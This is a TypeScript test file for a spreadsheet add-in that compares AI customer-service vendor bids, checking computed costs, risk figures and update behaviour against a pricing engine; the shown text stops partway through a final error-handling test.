/**
 * The comparison builder against the embedded formula engine (HyperFormula with the BUILT AIPRICE
 * functions from dist/): the sheet is built, its formulas computed by a real engine, and the computed
 * cells read back and compared with the pricing engine's figures: the bids table, the rates block
 * (cheapest bid by resolution rate) and every figure of the risk block. Updates are checked on real
 * formulas: a formula elsewhere that refers to a bid's figure still computes that bid's figure.
 */
import { cellAddress } from "../../src/workbook/a1";
import { assessRisk, Bid, bidFigures, cheapestByResolutionRate, compareBids, defaultRanges, Scenario, withValues } from "../../src/engine";
import { gallery, galleryTemplate, GUIDE_BID_IDS } from "../../src/templates/gallery";
import { contractQuestions } from "../../src/templates/questions";
import type { BidTemplate } from "../../src/templates/template";
import { pricesInEffect, templateAt } from "../../src/templates/versions";
import { DONE_WHEN, doneWhenByHand } from "../support/rate-card-bid";
import { applyUpdate, buildComparison, comparisonSheets, ComparisonProblem, ComparisonRequest, exportBids, prepareUpdate } from "../../src/workbook/builder";
import { EmbeddedWorkbook } from "../../src/workbook/embedded-workbook";
import type { ComparisonLayout } from "../../src/workbook/sheet-plan";
import { builtFunctions } from "../support/load-functions";
import { asTemplate, GUIDE_C_REFERENCE, GUIDE_SCENARIO, guideTemplates, handMadeTemplates, RICH_SCENARIO } from "./fixtures";

function workbook(): EmbeddedWorkbook {
  const { metadata, implementations } = builtFunctions();
  return new EmbeddedWorkbook({ metadata, implementations });
}

const num = (wb: EmbeddedWorkbook, sheet: string, address: string): number => {
  const v = wb.value(sheet, address);
  if (typeof v !== "number") throw new Error(`${sheet}!${address} holds ${JSON.stringify(v)}, not a number`);
  return v;
};

function close(actual: number, expected: number, what: string): void {
  if (!(Math.abs(actual - expected) <= 1e-9 * Math.max(1, Math.abs(expected)))) throw new Error(`${what} on the sheet is ${actual}, the engine says ${expected}`);
}

/** Every figure of every bid on the sheet equals the engine's for the scenario. */
function expectFiguresMatchEngine(wb: EmbeddedWorkbook, sheet: string, layout: ComparisonLayout, templates: BidTemplate[], scenario: Scenario): void {
  const ranked = compareBids(
    templates.map((t) => t.bid),
    scenario,
  );
  layout.bids.forEach((b, i) => {
    const f = bidFigures(templates[i].bid, scenario);
    const at = (a: string) => num(wb, sheet, a);
    const name = templates[i].bid.name;
    close(at(b.cells.resolutionRate), f.resolutionRate, `${name}: resolution rate`);
    close(at(b.cells.vendorFee), f.vendorFeePerConversation, `${name}: vendor fee`);
    close(at(b.cells.suppliedPerConversation), f.suppliedPerConversation, `${name}: supplied per conversation`);
    close(at(b.cells.suppliedFixedMonthly), f.suppliedFixedMonthly, `${name}: supplied fixed`);
    close(at(b.cells.suppliedOneTime), f.suppliedOneTime, `${name}: supplied one-time`);
    close(at(b.cells.aiCost), f.aiCostPerConversation, `${name}: AI cost per conversation`);
    if (f.costPerResolution === null) expect(wb.value(sheet, b.cells.costPerResolution)).toBe("resolves nothing");
    else close(at(b.cells.costPerResolution), f.costPerResolution, `${name}: cost per resolution`);
    close(at(b.cells.blended), f.blendedCostPerConversation, `${name}: blended cost`);
    close(at(b.cells.monthlyAiCost), f.monthlyAiCost, `${name}: monthly AI cost`);
    close(at(b.cells.monthlyTotal), f.monthlyTotal, `${name}: monthly total`);
    close(at(b.cells.monthlySavings), f.monthlySavings, `${name}: monthly savings`);
    expect(at(b.cells.rank)).toBe(ranked[i].rank);
  });
}

/** The rates block equals the engine's cheapest bid by resolution rate: every cost, winner, change and stretch. */
function expectRatesMatchEngine(wb: EmbeddedWorkbook, sheet: string, layout: ComparisonLayout, templates: BidTemplate[], scenario: Scenario): void {
  const engine = cheapestByResolutionRate(
    templates.map((t) => t.bid),
    scenario,
  );
  const row = (range: string) => wb.values(sheet, range)[0];
  row(layout.rates.rates).forEach((r, k) => expect(r).toBe(engine.rates[k]));
  layout.bids.forEach((b, i) => {
    row(b.rates.blended).forEach((v, k) => close(v as number, engine.blended[i][k] as number, `${templates[i].bid.name}: blended at ${engine.rates[k]}`));
    row(b.rates.costPerResolution).forEach((v, k) => {
      const f = bidFigures({ ...templates[i].bid, performance: { ...templates[i].bid.performance, resolutionRate: engine.rates[k + 1] } }, scenario);
      close(v as number, f.costPerResolution as number, `${templates[i].bid.name}: cost per resolution at ${engine.rates[k + 1]}`);
    });
  });
  expect(row(layout.rates.cheapest)).toEqual(engine.winners.map((w) => templates[w as number].bid.name));
  row(layout.rates.changes).forEach((v, k) => {
    if (engine.crossings[k] === null) expect(v === "" || v === null).toBe(true);
    else close(v as number, engine.crossings[k] as number, `change of winner before ${engine.rates[k]}`);
  });
  const from = row(layout.rates.rangeFrom);
  const to = row(layout.rates.rangeTo);
  const who = row(layout.rates.rangeBid);
  engine.ranges.forEach((x, j) => {
    close(from[j] as number, x.from, `stretch ${j + 1}: from`);
    close(to[j] as number, x.to, `stretch ${j + 1}: to`);
    expect(who[j]).toBe(templates[x.bid].bid.name);
  });
  for (let j = engine.ranges.length; j < from.length; j++) expect([from[j], to[j], who[j]]).toEqual(["", "", ""]);
}

/** Every figure of the risk block equals the engine's assessRisk over the same draws. */
function expectRiskMatchEngine(wb: EmbeddedWorkbook, sheet: string, layout: ComparisonLayout, templates: BidTemplate[], scenario: Scenario, draws: number, seed = 1): void {
  const risks = assessRisk(
    templates.map((t) => t.bid),
    scenario,
    { draws, seed },
  );
  layout.bids.forEach((b, i) => {
    const k = risks[i]!;
    const name = templates[i].bid.name;
    const at = (a: string) => num(wb, sheet, a);
    close(at(b.risk.totalP10), k.monthlyTotal.p10, `${name}: total P10`);
    close(at(b.risk.totalP50), k.monthlyTotal.p50, `${name}: total P50`);
    close(at(b.risk.totalP90), k.monthlyTotal.p90, `${name}: total P90`);
    close(at(b.risk.exposure), k.exposure, `${name}: exposure`);
    close(at(b.risk.chanceCheapest), k.chanceCheapest, `${name}: chance of being cheapest`);
    if (k.costPerResolution === null) expect(wb.value(sheet, b.risk.costPerResolutionP50)).toBe("resolves nothing");
    else {
      close(at(b.risk.costPerResolutionP10), k.costPerResolution.p10, `${name}: cost per resolution P10`);
      close(at(b.risk.costPerResolutionP50), k.costPerResolution.p50, `${name}: cost per resolution P50`);
      close(at(b.risk.costPerResolutionP90), k.costPerResolution.p90, `${name}: cost per resolution P90`);
    }
  });
}

/** The request with a scenario change made on the sheet: the cells, and the engine's scenario. */
function setScenario(wb: EmbeddedWorkbook, sheet: string, layout: ComparisonLayout, changes: Record<string, number>): void {
  for (const [name, v] of Object.entries(changes)) wb.setCellInput(sheet, layout.scenario[name], v);
}

const RANGED: Scenario = {
  ...GUIDE_SCENARIO,
  ranges: { conversations: { low: 80000, high: 130000 }, resolutionRate: { low: 0.75, high: 0.95 }, humanCost: { low: 2.5, high: 3.6 }, tokens: { low: 0.8, high: 1.5 } },
};

describe("the guide's three bids on the embedded workbook", () => {
  const templates = guideTemplates();
  let wb: EmbeddedWorkbook;
  let sheet: string;
  let layout: ComparisonLayout;

  beforeAll(async () => {
    wb = workbook();
    wb.addSheet("Sheet1");
    ({ sheetName: sheet, layout } = await buildComparison(wb, { scenario: GUIDE_SCENARIO, templates }));
  });
  afterAll(() => wb.destroy());

  test("the worked example's figures at V = 100000, r = 0.9, h = 3, ranked by blended cost", () => {
    expect(sheet).toBe("Bid comparison");
    const [a, b, c] = layout.bids;
    const v = (addr: string) => num(wb, sheet, addr);
    expect(v(a.cells.aiCost)).toBeCloseTo(0.46, 12);
    expect(v(a.cells.costPerResolution)).toBeCloseTo(0.511111111111, 12);
    expect(v(a.cells.blended)).toBeCloseTo(0.76, 12);
    expect(v(b.cells.aiCost)).toBeCloseTo(0.891, 12);
    expect(v(b.cells.costPerResolution)).toBeCloseTo(0.99, 12);
    expect(v(b.cells.blended)).toBeCloseTo(1.191, 12);
    expect(v(c.cells.aiCost)).toBeCloseTo(0.8375, 12);
    expect(v(c.cells.costPerResolution)).toBeCloseTo(0.930555555556, 12);
    expect(v(c.cells.blended)).toBeCloseTo(1.1375, 12);
    expect([a, b, c].map((x) => v(x.cells.rank))).toEqual([1, 3, 2]);
    expectFiguresMatchEngine(wb, sheet, layout, templates, GUIDE_SCENARIO);
  });

  test("each bid's performance is an input on its row that follows the scenario until the analyst types one", () => {
    const b = layout.bids[1];
    expect(wb.cell(sheet, b.cells.resolutionRate)).toMatchObject({ formula: "=ResolutionRate", styleName: "input", value: 0.9 });
    expect(wb.cell(sheet, b.cells.qualifyingShare)).toMatchObject({ formula: "=QualifyingShare", styleName: "input" });
    expect(wb.cell(sheet, b.cells.assist)).toMatchObject({ formula: null, value: 0, styleName: "input" });
    expect(wb.cell(sheet, b.cells.vendorFee).formula).toBe(`=AIPRICE.RESOLUTION_FEE(${b.inputs["pricing.pricePerResolution"].replace(/([A-Z]+)(\d+)/, "$$$1$$$2")}, ${b.cells.resolutionRate.replace(/([A-Z]+)(\d+)/, "$$$1$$$2")})`);
    expect(wb.cell(sheet, b.cells.blended).formula).toMatch(/^=AIPRICE\.BLENDED_COST\(/);
    expect(wb.cell(sheet, b.cells.monthlyTotal).numberFormat).toBe('"$"#,##0');
  });

  test("the guide's 0.16 stands beside bid C with its one-line reason", () => {
    const c = layout.bids[2];
    expect(wb.value(sheet, c.cells.reference!)).toBe(0.16);
    expect(wb.value(sheet, c.cells.referenceNote!)).toBe(`${GUIDE_C_REFERENCE.label}: ${GUIDE_C_REFERENCE.note}`);
    expect(layout.bids[0].cells.reference).toBeUndefined();
  });

  test("the rates block: blended cost and cost per resolution at every rate, the cheapest bid at each, where the winner changes", () => {
    expectRatesMatchEngine(wb, sheet, layout, templates, GUIDE_SCENARIO);
    expect(wb.values(sheet, layout.rates.rangeBid)[0].slice(0, 3)).toEqual(["Fin", "GPT-4 via the API", ""]);
    expect(num(wb, sheet, layout.rates.rangeTo.split(":")[0])).toBeCloseTo(0.46 / 0.99, 12);
  });

  test("without ranges, the risk figures are the point figures: no exposure, A always the cheapest", () => {
    expectRiskMatchEngine(wb, sheet, layout, templates, GUIDE_SCENARIO, 2000);
    const a = layout.bids[0];
    expect(num(wb, sheet, a.risk.totalP10)).toBeCloseTo(76000, 6);
    expect(num(wb, sheet, a.risk.exposure)).toBeCloseTo(0, 6);
    expect(layout.bids.map((b) => num(wb, sheet, b.risk.chanceCheapest))).toEqual([1, 0, 0]);
  });

  test("changing the resolution rate recomputes every figure, the ranking, the rates block and the risk block", () => {
    for (const r of [0.4, 0.75]) {
      setScenario(wb, sheet, layout, { ResolutionRate: r });
      const s = { ...GUIDE_SCENARIO, resolutionRate: r };
      expectFiguresMatchEngine(wb, sheet, layout, templates, s);
      expectRatesMatchEngine(wb, sheet, layout, templates, s);
      expectRiskMatchEngine(wb, sheet, layout, templates, s, 2000);
    }
    setScenario(wb, sheet, layout, { ResolutionRate: 0.9 });
  });

  test("the charts plot cost per resolution, the risk ranges and blended cost against the rate", () => {
    const [bars, ranges, lines] = wb.charts(sheet);
    expect(bars.id).toBe("cost-per-resolution");
    bars.data.series[0].values.forEach((v, i) => expect(v).toBe(wb.value(sheet, layout.bids[i].cells.costPerResolution)));
    expect(ranges).toMatchObject({ id: "risk-ranges", type: "bar-stacked" });
    expect(ranges.data.series.map((s) => [s.name, s.hidden])).toEqual([
      ["P10", true],
      ["P10 to P50", false],
      ["P50 to P90", false],
    ]);
    expect(lines).toMatchObject({ id: "blended-by-rate", type: "line" });
    expect(lines.data.categoryValues).toHaveLength(21);
    expect(lines.data.series.map((s) => s.name)).toEqual(templates.map((t) => t.bid.name));
  });

  test("the contract questions, sources and dates are on the sheet as text", () => {
    expect(layout.questions.map((g) => g.heading)).toEqual([
      "Every bid",
      "Priced per token: GPT-4 via the API",
      "Priced per resolution: Fin",
      "Priced revenue share: Custom deployment",
      "GPT-4 via the API - OpenAI: its own questions",
      "Fin - Intercom: its own questions",
      "Custom deployment - Klarna: its own questions",
    ]);
    const own = layout.questions.find((g) => g.heading === "Fin - Intercom: its own questions")!;
    expect(own.cells.map((a) => wb.value(sheet, a))).toEqual(
      contractQuestions(templates[1])
        .filter((q) => !q.startsWith("Who measures"))
        .slice(-2),
    );
  });
});

describe("each bid performs differently, and who bears the risk", () => {
  // Bid A must be operated by the buyer: 30% / 60% / 80%; B and C at their vendors' claim of 90%.
  const templates = guideTemplates();
  templates[0] = { ...templates[0], bid: { ...templates[0].bid, performance: { resolutionRate: { low: 0.3, likely: 0.6, high: 0.8 } } } };
  let wb: EmbeddedWorkbook;
  let sheet: string;
  let layout: ComparisonLayout;

  beforeAll(async () => {
    wb = workbook();
    ({ sheetName: sheet, layout } = await buildComparison(wb, { scenario: RANGED, templates }));
  });
  afterAll(() => wb.destroy());

  test("the bids table ranks A last at its own 60%, while it is still the cheapest per resolution", () => {
    expectFiguresMatchEngine(wb, sheet, layout, templates, RANGED);
    expect(layout.bids.map((b) => num(wb, sheet, b.cells.rank))).toEqual([3, 2, 1]);
    expect(num(wb, sheet, layout.bids[0].cells.costPerResolution)).toBeCloseTo(0.46 / 0.6, 12);
  });

  test("every figure of the risk block equals the engine's; A's range carries the largest exposure", () => {
    expectRiskMatchEngine(wb, sheet, layout, templates, RANGED, 2000);
    const exposure = layout.bids.map((b) => num(wb, sheet, b.risk.exposure));
    expect(exposure[0]).toBeGreaterThan(Math.max(exposure[1], exposure[2]));
    const chance = layout.bids.map((b) => num(wb, sheet, b.risk.chanceCheapest));
    expect(chance.reduce((x, y) => x + y, 0)).toBeCloseTo(1, 12);
    // A's own range is on its risk row as inputs; B's follows the scenario's spread around its rate.
    expect(wb.cell(sheet, layout.bids[0].risk.rateLow)).toMatchObject({ value: 0.3, formula: null, styleName: "input" });
    expect(wb.cell(sheet, layout.bids[1].risk.rateLow)).toMatchObject({ value: expect.closeTo(0.75, 12), styleName: "input" });
  });

  test("a range change recomputes the risk block: the engine agrees again", () => {
    wb.setCellInput(sheet, layout.bids[0].risk.rateHigh, 0.95);
    wb.setCellInput(sheet, layout.scenario.HumanCostHigh, 4.5);
    const a = { ...templates[0], bid: { ...templates[0].bid, performance: { resolutionRate: { low: 0.3, likely: 0.6, high: 0.95 } } } };
    expectRiskMatchEngine(wb, sheet, layout, [a, templates[1], templates[2]], { ...RANGED, ranges: { ...RANGED.ranges, humanCost: { low: 2.5, high: 4.5 } } }, 2000);
    wb.setCellInput(sheet, layout.scenario.Seed, 9);
    expectRiskMatchEngine(wb, sheet, layout, [a, templates[1], templates[2]], { ...RANGED, ranges: { ...RANGED.ranges, humanCost: { low: 2.5, high: 4.5 } } }, 2000, 9);
  });

  test("a range typed out of order (low above likely): that bid's risk figures say so, the other bids' still compute, and fixing it recomputes", () => {
    const b = layout.bids[1];
    const before = num(wb, sheet, b.risk.totalP50);
    wb.setCellInput(sheet, b.risk.rateLow, 0.97);
    expect(wb.value(sheet, b.risk.draws.rate.split(":")[0])).toMatchObject({ error: "#NUM!", message: expect.stringMatching(/low <= likely <= high/) });
    // docs/spec.md#one-model-one-answer: not #NUM! in every risk figure; the bid is not priced in the draws, and says why.
    expect(wb.value(sheet, b.risk.totalP50)).toMatch(/^not priced in the drawn scenarios: .*low <= likely <= high/);
    expect(wb.value(sheet, b.risk.chanceCheapest)).toMatch(/^not priced/);
    const others = [layout.bids[0], layout.bids[2]].map((o) => num(wb, sheet, o.risk.chanceCheapest));
    expect(others[0] + others[1]).toBeCloseTo(1, 12);
    wb.setCellInput(sheet, b.risk.rateLow, `=MAX(0, ${b.cells.resolutionRate}-(ResolutionRate-ResolutionRateLow))`);
    expect(num(wb, sheet, b.risk.totalP50)).toBe(before);
  });

  test("an agent-assist seat offer resolves nothing: shown as such, still ranked", async () => {
    const assist = asTemplate("assist", { vendor: "S", name: "Assist seats", currency: "USD", pricing: { model: "per-seat", pricePerSeat: 50, seats: 200 }, performance: { resolutionRate: 0, assist: 0.2 } });
    const wb2 = workbook();
    const built = await buildComparison(wb2, { scenario: RANGED, templates: [...guideTemplates(), assist] });
    expectFiguresMatchEngine(wb2, built.sheetName, built.layout, [...guideTemplates(), assist], RANGED);
    expectRiskMatchEngine(wb2, built.sheetName, built.layout, [...guideTemplates(), assist], RANGED, 2000);
    expect(wb2.value(built.sheetName, built.layout.bids[3].cells.costPerResolution)).toBe("resolves nothing");
    expect(wb2.value(built.sheetName, built.layout.bids[3].risk.costPerResolutionP50)).toBe("resolves nothing");
    expect(typeof wb2.value(built.sheetName, built.layout.bids[3].cells.rank)).toBe("number");
    wb2.destroy();
  });
});

describe("every model and charge shape: the sheet equals the engine", () => {
  const templates = handMadeTemplates();
  let wb: EmbeddedWorkbook;
  let sheet: string;
  let layout: ComparisonLayout;
  const request: ComparisonRequest = { scenario: { ...RICH_SCENARIO, ranges: defaultRanges(RICH_SCENARIO) }, templates, risk: { draws: 600 } };

  beforeAll(async () => {
    wb = workbook();
    ({ sheetName: sheet, layout } = await buildComparison(wb, request));
  });
  afterAll(() => wb.destroy());

  test("figures, ranks, rates and risk", () => {
    expectFiguresMatchEngine(wb, sheet, layout, templates, request.scenario);
    expectRatesMatchEngine(wb, sheet, layout, templates, request.scenario);
    expectRiskMatchEngine(wb, sheet, layout, templates, request.scenario, 600);
  });

  test.each([0.55, 0.95, 1])("figures at r = %p", (r) => {
    wb.setCellInput(sheet, layout.scenario.ResolutionRate, r);
    const given = request.scenario.ranges!.resolutionRate!;
    const s = { ...request.scenario, resolutionRate: r, ranges: { ...request.scenario.ranges, resolutionRate: { low: Math.min(given.low, r), high: Math.max(given.high, r) } } };
    wb.setCellInput(sheet, layout.scenario.ResolutionRateLow, s.ranges.resolutionRate.low);
    wb.setCellInput(sheet, layout.scenario.ResolutionRateHigh, s.ranges.resolutionRate.high);
    expectFiguresMatchEngine(wb, sheet, layout, templates, s);
    expectRatesMatchEngine(wb, sheet, layout, templates, s);
    expectRiskMatchEngine(wb, sheet, layout, templates, s, 600);
    wb.setCellInput(sheet, layout.scenario.ResolutionRate, RICH_SCENARIO.resolutionRate);
    wb.setCellInput(sheet, layout.scenario.ResolutionRateLow, given.low);
    wb.setCellInput(sheet, layout.scenario.ResolutionRateHigh, given.high);
  });

  test("figures when the qualifying share, the volume and the scenario's tokens change", () => {
    // The volume's usual range follows it to 130,000 (withValues), as on the sheet.
    const changed: Scenario = withValues(request.scenario, {
      qualifyingShare: 0.6,
      conversations: 130000,
      tokens: { input: 30000, output: 4000, cachedInput: 20000, attempts: 3 },
    });
    setScenario(wb, sheet, layout, { QualifyingShare: 0.6, Conversations: 130000, InputTokens: 30000, OutputTokens: 4000, CachedInputTokens: 20000, CallsPerConversation: 3 });
    expectFiguresMatchEngine(wb, sheet, layout, templates, changed);
    expectRiskMatchEngine(wb, sheet, layout, templates, changed, 600);
    const t = RICH_SCENARIO.tokens!;
    setScenario(wb, sheet, layout, {
      QualifyingShare: RICH_SCENARIO.qualifyingShare!,
      Conversations: RICH_SCENARIO.conversations,
      InputTokens: t.input,
      OutputTokens: t.output,
      CachedInputTokens: t.cachedInput!,
      CallsPerConversation: t.attempts!,
    });
    expectFiguresMatchEngine(wb, sheet, layout, templates, request.scenario);
  });

  test("a bid's own performance typed on its row prices it as the engine does", () => {
    const i = templates.findIndex((t) => t.bid.name === "CSAT-gated outcomes");
    const b = layout.bids[i];
    wb.setCellInput(sheet, b.cells.resolutionRate, 0.55);
    wb.setCellInput(sheet, b.cells.qualifyingShare, 0.5);
    wb.setCellInput(sheet, b.cells.assist, 0.1);
    const edited = templates.map((t, k) => (k === i ? { ...t, bid: { ...t.bid, performance: { resolutionRate: 0.55, qualifyingShare: 0.5, assist: 0.1 } } } : t));
    expectFiguresMatchEngine(wb, sheet, layout, edited, request.scenario);
    expectRiskMatchEngine(wb, sheet, layout, edited, request.scenario, 600);
  });

  test("editing a bid's price cell recomputes its figures and export reads the edit back, marked as edited", async () => {
    const i = templates.findIndex((t) => t.bid.name === "Allowance plan");
    const b = layout.bids[i];
    wb.setCellInput(sheet, b.inputs["charges.allowance.overagePrice"], 0.5);
    const exported = await exportBids(wb, sheet, "2026-11-29");
    expect((exported[i].bid.charges as { allowance: { overagePrice: number } }).allowance.overagePrice).toBe(0.5);
    expect(exported[i].sources).toContainEqual({ field: "charges.allowance.overagePrice", title: "Edited on the comparison sheet “Bid comparison”: 0.5 in place of the quoted 0.89", asOf: "2026-11-29" });
    // The performance typed above is exported as the bid's own.
    const j = templates.findIndex((t) => t.bid.name === "CSAT-gated outcomes");
    expect(exported[j].bid.performance).toEqual({ resolutionRate: 0.55, qualifyingShare: 0.5, assist: 0.1 });
  });
});

describe("an update keeps the analyst's work (the embedded port, with formulas that compute)", () => {
  test("a bid added: a formula on Sheet1 that pointed at bid A's cost per resolution still shows bid A's figure; edits, notes and formulas stay", async () => {
    const wb = workbook();
    wb.addSheet("Sheet1");
    const built = await buildComparison(wb, { scenario: GUIDE_SCENARIO, templates: guideTemplates() });
    const sheet = built.sheetName;
    const a = built.layout.bids[0];
    wb.setCellInput("Sheet1", "A1", `='${sheet}'!${a.cells.costPerResolution}`);
    wb.setCellInput("Sheet1", "A2", `='${sheet}'!${built.layout.scenario.ResolutionRate}`);
    expect(num(wb, "Sheet1", "A1")).toBeCloseTo(0.5111, 4);
    // The analyst: a note beside bid A, a formula below the table, the rate at 80%, B's price at 0.85.
    wb.setCellInput(sheet, `Z${a.row}`, "'ask about volume discounts");
    const below = `B${built.layout.bids[2].row + 3}`;
    wb.setCellInput(sheet, below, `=SUM(${a.cells.monthlyTotal}:${built.layout.bids[2].cells.monthlyTotal})`);
    wb.setCellInput(sheet, built.layout.scenario.ResolutionRate, 0.8);
    wb.setCellInput(sheet, built.layout.bids[1].inputs["pricing.pricePerResolution"], 0.85);
    const sumBefore = num(wb, sheet, below);

    const added = asTemplate("added", { vendor: "Decagon", name: "Per conversation", currency: "USD", pricing: { model: "per-conversation", pricePerConversation: 0.3 } });
    const preview = await prepareUpdate(wb, sheet, { scenario: GUIDE_SCENARIO, templates: [...guideTemplates(), added] }, "2026-11-29");
    expect(preview.conflicts).toEqual([]);
    expect(preview.kept.map((k) => k.now)).toEqual([0.8, 0.85]);
    const { layout } = await applyUpdate(wb, preview);

    // Bid A's figure at the rate the analyst set (0.46 / 0.8), not another bid's.
    expect(num(wb, "Sheet1", "A1")).toBeCloseTo(0.46 / 0.8, 12);
    expect(wb.cell("Sheet1", "A1").formula).toBe(`='${sheet}'!${layout.bids[0].cells.costPerResolution}`);
    expect(num(wb, "Sheet1", "A2")).toBe(0.8);
    expect(wb.value(sheet, `Z${layout.bids[0].row}`)).toBe("ask about volume discounts");
    // The formula below the table moved down with the new row and still sums the three bids it summed.
    const moved = `B${Number(below.slice(1)) + 1}`;
    expect(num(wb, sheet, moved)).toBeCloseTo(sumBefore, 6);
    expect(layout.bids.map((b) => b.name)).toEqual(["GPT-4 via the API", "Fin", "Custom deployment", "Per conversation"]);
    // B priced at the analyst's 0.85, every figure the engine's at 80%, the new bid included.
    const edited = guideTemplates();
    edited[1] = { ...edited[1], bid: { ...edited[1].bid, pricing: { model: "per-resolution", pricePerResolution: 0.85 } } };
    const now = { ...GUIDE_SCENARIO, resolutionRate: 0.8 };
    expectFiguresMatchEngine(wb, sheet, layout, [...edited, added], now);
    expectRatesMatchEngine(wb, sheet, layout, [...edited, added], now);
    expectRiskMatchEngine(wb, sheet, layout, [...edited, added], now, 2000);
    // Updating again with nothing new changes nothing, and keeps the same edits.
    const again = await prepareUpdate(wb, sheet, { scenario: GUIDE_SCENARIO, templates: [...guideTemplates(), added] }, "2026-11-30");
    expect(again.rowsInserted + again.rowsDeleted).toBe(0);
    expect(again.kept.map((k) => k.now)).toEqual([0.8, 0.85]);
    wb.destroy();
  });

  test("rows the analyst inserted inside the sheet stay, and the add-in's rows are found around them", async () => {
    const wb = workbook();
    const built = await buildComparison(wb, { scenario: GUIDE_SCENARIO, templates: guideTemplates() });
    const sheet = built.sheetName;
    // The analyst inserts a row after bid A and types a comment there.
    const id = wb.hf.getSheetId(sheet)!;
    wb.hf.addRows(id, [built.layout.bids[0].row, 1]);
    wb.setCellInput(sheet, `B${built.layout.bids[0].row + 1}`, "'A looks cheap because we operate it");
    const preview = await prepareUpdate(wb, sheet, { scenario: { ...GUIDE_SCENARIO, humanCost: 4 }, templates: guideTemplates() }, "2026-11-29");
    expect(preview.conflicts).toEqual([]);
    const { layout } = await applyUpdate(wb, preview);
    expect(layout.bids.map((b) => b.row)).toEqual([built.layout.bids[0].row, built.layout.bids[1].row + 1, built.layout.bids[2].row + 1]);
    expect(wb.value(sheet, `B${built.layout.bids[0].row + 1}`)).toBe("A looks cheap because we operate it");
    expectFiguresMatchEngine(wb, sheet, layout, guideTemplates(), { ...GUIDE_SCENARIO, humanCost: 4 });
    wb.destroy();
  });

  test("what cannot be kept is listed first and nothing changes until the analyst agrees; removing a bid deletes its rows", async () => {
    const wb = workbook();
    wb.addSheet("Sheet1");
    const built = await buildComparison(wb, { scenario: GUIDE_SCENARIO, templates: guideTemplates() });
    const sheet = built.sheetName;
    wb.setCellInput("Sheet1", "A1", `='${sheet}'!${built.layout.bids[2].cells.costPerResolution}`);
    const removal = await prepareUpdate(wb, sheet, { scenario: GUIDE_SCENARIO, templates: [guideTemplates()[0], guideTemplates()[2]] }, "2026-11-29");
    expect(removal.removed).toEqual(["Fin"]);
    expect(removal.conflicts.map((c) => c.where)).toContain(`row ${built.layout.bids[1].row}`);
    expect(num(wb, sheet, built.layout.bids[1].cells.aiCost)).toBeCloseTo(0.891, 12);
    const { layout } = await applyUpdate(wb, removal);
    expect(layout.bids.map((b) => b.name)).toEqual(["GPT-4 via the API", "Custom deployment"]);
    // C moved up a row; the formula on Sheet1 followed it.
    expect(num(wb, "Sheet1", "A1")).toBeCloseTo(0.8375 / 0.9, 12);
    expectFiguresMatchEngine(wb, sheet, layout, [guideTemplates()[0], guideTemplates()[2]], GUIDE_SCENARIO);
    wb.destroy();
  });

  test("the sheet changed after the preview (a cell typed where the update writes): nothing is written, the analyst is asked to look again", async () => {
    const wb = workbook();
    const built = await buildComparison(wb, { scenario: GUIDE_SCENARIO, templates: guideTemplates() });
    const sheet = built.sheetName;
    const removal = await prepareUpdate(wb, sheet, { scenario: GUIDE_SCENARIO, templates: [guideTemplates()[0], guideTemplates()[2]] }, "2026-11-29");
    expect(removal.conflicts.length).toBeGreaterThan(0);
    // While the pane asks, the analyst types a note in a row the update would delete, and changes an input.
    wb.setCellInput(sheet, `Z${built.layout.bids[1].row}`, "'keep this");
    wb.setCellInput(sheet, built.layout.scenario.ResolutionRate, 0.8);
    const before = wb.hf.getSheetSerialized(wb.hf.getSheetId(sheet)!);
    await expect(applyUpdate(wb, removal)).rejects.toThrow(/changed after the update was shown to you.*nothing was changed/);
    expect(wb.hf.getSheetSerialized(wb.hf.getSheetId(sheet)!)).toEqual(before);
    expect(wb.value(sheet, `Z${built.layout.bids[1].row}`)).toBe("keep this");
    // Looked at again, the note's row is among the changes to confirm, and the edited rate is kept.
    const again = await prepareUpdate(wb, sheet, { scenario: GUIDE_SCENARIO, templates: [guideTemplates()[0], guideTemplates()[2]] }, "2026-11-29");
    expect(again.kept.map((k) => k.now)).toEqual([0.8]);
    const { layout } = await applyUpdate(wb, again);
    expect(layout.bids.map((b) => b.name)).toEqual(["GPT-4 via the API", "Custom deployment"]);
    wb.destroy();
  });

  test("a sheet of the analyst's with a name like the add-in's marker is never offered nor updated", async () => {
    const wb = workbook();
    wb.addSheet("Mine");
    wb.hf.addNamedExpression("AIPRICE_Comparison", "=Mine!$A$1", wb.hf.getSheetId("Mine"));
    expect(await comparisonSheets(wb)).toEqual([]);
    await expect(prepareUpdate(wb, "Mine", { scenario: GUIDE_SCENARIO, templates: guideTemplates() })).rejects.toThrow(/was not built by the add-in/);
    await expect(exportBids(wb, "Mine")).rejects.toThrow(/not the add-in's own comparison sheet/);
    wb.destroy();
  });
});

describe("nothing lost, nothing injected", () => {
  test("building twice makes a second sheet; a user's sheet with data is untouched", async () => {
    const wb = workbook();
    wb.addSheet("Bid comparison");
    wb.setCellInput("Bid comparison", "A1", "my own notes");
    wb.setCellInput("Bid comparison", "B2", 42);
    wb.setCellInput("Bid comparison", "C3", "=B2*2");
    const before = wb.values("Bid comparison", "A1:D5");
    const first = await buildComparison(wb, { scenario: GUIDE_SCENARIO, templates: guideTemplates() });
    const second = await buildComparison(wb, { scenario: { ...GUIDE_SCENARIO, resolutionRate: 0.6 }, templates: guideTemplates() });
    expect([first.sheetName, second.sheetName]).toEqual(["Bid comparison 2", "Bid comparison 3"]);
    expect(wb.values("Bid comparison", "A1:D5")).toEqual(before);
    expect(wb.cell("Bid comparison", "C3").formula).toBe("=B2*2");
    expect(await comparisonSheets(wb)).toEqual(["Bid comparison 2", "Bid comparison 3"]);
    // Each sheet keeps its own scenario: the names are scoped to their sheet.
    expect(wb.value("Bid comparison 2", first.layout.bids[1].cells.aiCost)).toBeCloseTo(0.891, 12);
    expect(wb.value("Bid comparison 3", second.layout.bids[1].cells.aiCost)).toBeCloseTo(0.594, 12);
    wb.destroy();
  });

  test("a bid that cannot be priced is a clear error and nothing is written", async () => {
    const wb = workbook();
    wb.addSheet("Sheet1");
    const bad = asTemplate("bad", { vendor: "X", name: "Negative", currency: "USD", pricing: { model: "per-resolution", pricePerResolution: -1 } });
    const noTokens = asTemplate("tokens", { vendor: "Y", name: "No tokens", currency: "USD", pricing: { model: "per-token", inputPricePerMTok: 1, outputPricePerMTok: 2 } });
    let error: unknown;
    try {
      await buildComparison(wb, { scenario: GUIDE_SCENARIO, templates: [...guideTemplates(), bad, noTokens] });
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(ComparisonProblem);
    expect((error as ComparisonProblem).problems).toEqual([
      'bid 4 "Negative" (X): bid.pricing.pricePerResolution must be 0 or more (got -1)',
